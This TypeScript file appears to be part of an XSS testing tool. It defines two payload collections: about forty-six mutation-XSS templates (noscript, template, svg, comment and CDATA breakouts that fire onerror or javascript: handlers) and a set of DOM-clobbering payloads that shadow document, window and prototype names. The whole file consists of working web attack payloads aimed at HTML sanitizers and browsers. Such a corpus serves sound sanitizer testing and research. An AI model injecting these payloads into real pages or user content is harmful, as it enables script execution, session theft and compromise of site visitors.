import type { Category } from '../vector.ts'

export const MUTATIONS: Category = {
  name: 'mutations',
  kind: 'html',
  source:
    'Mutation XSS: markup that reads in one way where it is cleaned and in another where it is shown; html5sec: innerHTML',
  techniques: [
    ['noscript', ({ call }) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`],
    ['noscript-style', ({ call }) => `<noscript><style></noscript><img src=x onerror=${call}></style>`],
    ['noscript-comment', ({ call }) => `<noscript><!-- </noscript><img src=x onerror=${call}> --></noscript>`],
    ['template', ({ call }) => `<template><p title="</template><img src=x onerror=${call}>"></template>`],
    [
      'template-shadow',
      ({ call }) => `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
    ],
    ['textarea', ({ call }) => `<textarea><p title="</textarea><img src=x onerror=${call}>">`],
    ['title', ({ call }) => `<title><p title="</title><img src=x onerror=${call}>">`],
    ['xmp', ({ call }) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`],
    ['listing', ({ call }) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`],
    ['noembed', ({ call }) => `<noembed><p title="</noembed><img src=x onerror=${call}>">`],
    ['noframes', ({ call }) => `<noframes><p title="</noframes><img src=x onerror=${call}>">`],
    ['frame-text', ({ call }) => `<iframe><p title="</iframe><img src=x onerror=${call}>">`],
    ['style', ({ call }) => `<style><p title="</style><img src=x onerror=${call}>">`],
    ['script', ({ call }) => `<script><!--<p title="</script><img src=x onerror=${call}>">`],
    ['plain-text', ({ call }) => `<plaintext><img src=x onerror=${call}>`],
    [
      'select',
      ({ call }) =>
        `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${call}>">`,
    ],
    ['select-option', ({ call }) => `<select><option><style></option></select><img src=x onerror=${call}></style>`],
    ['select-frame', ({ call }) => `<select><iframe></select><img src=x onerror=${call}>`],
    ['svg-paragraph', ({ call }) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`],
    ['svg-style', ({ call }) => `<svg><p><style><g title="</style><img src=x onerror=${call}>">`],
    ['svg-title', ({ call }) => `<svg><title><style><a title="</style></title><img src=x onerror=${call}>">`],
    ['svg-cdata', ({ call }) => `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`],
    [
      'svg-in-caption',
      ({ call }) =>
        `<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src=x onerror=${call}>">`,
    ],
    ['short-comment', ({ call }) => `<!--><img src=x onerror=${call}>-->`],
    ['shorter-comment', ({ call }) => `<!---><img src=x onerror=${call}>-->`],
    ['bang-comment', ({ call }) => `<!-- --!><img src=x onerror=${call}> -->`],
    ['comment-in-attribute', ({ call }) => `<!--<img src="--><img src=x onerror=${call}//">`],
    ['comment-of-server', ({ call }) => `<!--[CDATA[--><img src=x onerror=${call}>]]-->`],
    ['cdata', ({ call }) => `<![CDATA[<!--]]><img src=x onerror=${call}>`],
    ['declaration', ({ call }) => `<!DOCTYPE html "><img src=x onerror=${call}>">`],
    [
      'nested-links',
      ({ call }) => `<a href=https://example.org/><table><a href="javascript:${call}">x</a></table></a>`,
    ],
    ['nested-forms', ({ call }) => `<form id=a><div></form><form id=b><input formaction=javascript:${call}>`],
    [
      'foster-parent',
      ({ call }) => `<table><tr><b><img src=x onerror=${call}></tr><a href="javascript:${call}">x</table>`,
    ],
    [
      'adoption',
      ({ call }) => `<b><i><a><p><b><i><a href="javascript:${call}"></b></i><img src=x onerror=${call}></p>`,
    ],
    ['heading-in-heading', ({ call }) => `<h2><h3><button><h2 onclick=${call}></h3></button>x</h2>`],
    ['backtick', ({ call }) => `<p title="\`&gt;&lt;img src=x onerror=${call}&gt;">x</p>`],
    ['backtick-and-space', ({ call }) => `<p title="\`\` onmouseover=${call}">x</p>`],
    [
      'entity-in-code',
      ({ call }) =>
        `<pre><code class="language-html&quot; onmouseover=&quot;${call}">&lt;img src=x onerror=${call}&gt;</code></pre>`,
    ],
    ['paragraph-in-paragraph', ({ call }) => `<p><p title="</p><img src=x onerror=${call}>"></p>`],
    ['ruby', ({ call }) => `<ruby><rt><style></ruby><img src=x onerror=${call}>`],
    ['details', ({ call }) => `<details open><summary><svg><style></details><img src=x onerror=${call}>`],
    ['dialog', ({ call }) => `<dialog open><form method=dialog><button formaction=javascript:${call}>x</dialog>`],
    ['object-text', ({ call }) => `<object><param name=x></object><object><img src=x onerror=${call}></object>`],
    ['body-attributes', ({ call }) => `<body><html onmouseover=${call}><body onfocus=${call} tabindex=1 autofocus>`],
    ['head', ({ call }) => `<head><base href=javascript:${call}//></head><a href=x>x</a>`],
    [
      'marker',
      ({ call }) =>
        `<related-block index="0"><img src=x onerror=${call}></related-block><related-block index="__proto__">`,
    ],
  ],
}

export const CLOBBERING: Category = {
  name: 'clobbering',
  kind: 'html',
  source: 'DOM clobbering by id and name; attributes that a script of the page may trust',
  techniques: [
    ['root', ({ call }) => `<div id=root>${call}</div><main id=main tabindex=-1>x</main>`],
    ['probe', () => '<a id=hit name=call href=https://example.org/>x</a><a id=hit>y</a>'],
    [
      'document',
      () => '<form id=document name=document><input name=cookie><input name=body><input name=querySelector></form>',
    ],
    ['document-names', () => '<img name=getElementById><img name=documentElement><embed name=currentScript>'],
    ['window-names', () => '<iframe name=top></iframe><iframe name=location></iframe><iframe name=fetch></iframe>'],
    [
      'globals',
      ({ address }) => `<a id=trustedTypes></a><a id=workbox href=${address}></a><a id=__vite__ href=${address}></a>`,
    ],
    ['prototypes', () => '<b id=__proto__>x</b><b id=constructor>y</b><b id=hasOwnProperty>z</b>'],
    [
      'footnotes',
      () => '<h2 id=footnote-label class=sr-only>x</h2><section data-footnotes><ol><li id=note-fn-1>y</ol></section>',
    ],
    ['root-of-archive', ({ address }) => `<html data-root="${address}/"><b data-root="${address}/">x</b>`],
    [
      'children',
      () =>
        '<form id=x><input name=childNodes><input name=parentNode><input name=attributes><input name=nodeName></form>',
    ],
    [
      'anchor-object',
      ({ call }) => `<a id=config href="javascript:${call}"></a><a id=config name=url href="javascript:${call}"></a>`,
    ],
    [
      'keyboard',
      ({ call }) => `<b accesskey=x contenteditable tabindex=1 draggable=true popover=auto inert onkeyup=${call}>x</b>`,
    ],
  ],
}
